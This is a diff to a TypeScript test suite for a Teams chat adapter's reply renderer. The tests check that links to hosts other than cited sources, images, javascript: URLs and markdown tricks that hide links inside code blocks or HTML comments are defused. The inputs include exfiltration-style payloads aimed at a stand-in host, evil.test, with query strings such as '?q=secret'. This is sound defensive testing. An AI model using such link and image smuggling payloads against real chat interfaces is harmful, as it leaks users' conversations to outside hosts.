@@ -1,8 +1,9 @@
 import assert from 'node:assert/strict'
 import fc from 'fast-check'
+import markdownIt from 'markdown-it'
 import { addressOf, createAddresses, threadOf } from '../../../adapters/teams/address.ts'
 import { parse } from '../../../adapters/teams/parse.ts'
-import { aiEntity, partial, plainMessage, settled } from '../../../adapters/teams/render.ts'
+import { aiEntity, partial, plainMessage, replyMessage, settled, sourcesText } from '../../../adapters/teams/render.ts'
 import { type Activity, refusalOf } from '../../../adapters/teams/sdk.ts'
 import { meaningOf } from '../../../adapters/teams/stream.ts'
 import { distrust } from '../../../adapters/teams/trust.ts'
@@ -107,15 +108,62 @@ describe('what of a growing text stays as it is', () => {
 })
 
 describe('text for Teams', () => {
+  it('has links to the hosts of its sources only', () => {
+    const text = (said: string) =>
+      replyMessage({ ...reply, text: said, sources: [linked] }, { feedback: 'default' })['text']
+    const linked = { number: 1, title: 'T', document: 'd', text: 't', url: 'https://handbook.test/a' }
+    const reply = { turn: 'b', version: 'v0' }
+    assert.equal(text('See [here](https://handbook.test/b).'), 'See [here](https://handbook.test/b).')
+    assert.equal(text('See [here](https://evil.test/?q=secret).'), 'See here (`https://evil.test/?q=secret`).')
+    assert.equal(text('See https://evil.test/x now'), 'See `https://evil.test/x` now')
+    assert.equal(text('See www.evil.test now'), 'See `www.evil.test` now')
+    assert.equal(
+      text('[mail](mailto:x@evil.test) [js](javascript:alert)'),
+      'mail (`mailto:x@evil.test`) js (`javascript:alert`)',
+    )
+    assert.equal(text('[https://handbook.test](https://evil.test)'), 'https://handbook.test (`https://evil.test`)')
+    assert.equal(text('`https://evil.test`'), '`https://evil.test`')
+    assert.equal(text('<a href="https://evil.test">x</a>'), '&lt;a href="`https://evil.test"`>x&lt;/a>')
+    assert.match(sourcesText([linked]), /\[T\]\(https:\/\/handbook\.test\/a\)/)
+  })
+
+  it('tells the beginning of a growing text as it tells the whole', () => {
+    const whole = 'One [a](https://evil.test/x) two https://evil.test/y and `code` three. End'
+    const told = plainMessage(whole)['text'] as string
+    for (let end = 0; end < whole.length; end++) {
+      const part = plainMessage(settled(whole.slice(0, end)).trimEnd())['text'] as string
+      assert.ok(told.startsWith(part), part)
+    }
+  })
+
+  it('hides no link in what other readers of Markdown take for the end of code', () => {
+    const hidden = [
+      '`a\nhttps://evil.test/\nb`',
+      '~~~\n```\n~~~\nhttps://evil.test/\n```',
+      '<pre>\n```\n</pre>\nhttps://evil.test/\n```',
+      '<!--\n```\n-->\nhttps://evil.test/\n```',
+      '- a\n  ```\n  b\n\nhttps://evil.test/\n```',
+      'ftp://evil.test/ and msteams://evil.test/',
+    ]
+    const markdown = markdownIt({ html: true, linkify: true })
+    assert.match(markdown.render('https://evil.test/'), /<a /)
+    for (const text of hidden) {
+      assert.doesNotMatch(markdown.render(String(plainMessage(text)['text'])), /<a /, text)
+    }
+    assert.equal(plainMessage('Use `a<b>` and <b>')['text'], 'Use `a<b>` and &lt;b>')
+  })
+
   it('shows no image: its address would be fetched unasked, and could carry what was said', () => {
     const evil = 'Look! ![a](https://evil.test/?said=x) ![a[b]][ref] <img src="https://evil.test/">'
     const safe = plainMessage(evil)['text']
-    assert.equal(safe, 'Look! ! [a](https://evil.test/?said=x) ! [a[b]][ref] &lt;img src="https://evil.test/">')
+    assert.equal(safe, 'Look! ! a (`https://evil.test/?said=x`) ! [a[b]][ref] &lt;img src="`https://evil.test/"`>')
     assert.equal(partial(evil, { sequence: 1 })['text'], safe)
   })
 
   it('of a growing reply begins with what was shown before', () => {
-    const text = fc.string({ unit: fc.constantFrom('a', ' ', '!', '[', ']', '(', ')', '<img', '\n') })
+    const address = 'https://evil.test/x'
+    const marks = ['a', ' ', '!', '[', ']', '(', ')', '<img', '\n', '`', '```', '~~~', '  ', '**', '<pre>', address]
+    const text = fc.string({ unit: fc.constantFrom(...marks) })
     const shown = (said: string) => String(partial(settled(said).trimEnd(), { sequence: 1 })['text'])
     fc.assert(
       fc.property(text, fc.nat(), (said, at) => shown(said).startsWith(shown(said.slice(0, at % (said.length + 1))))),
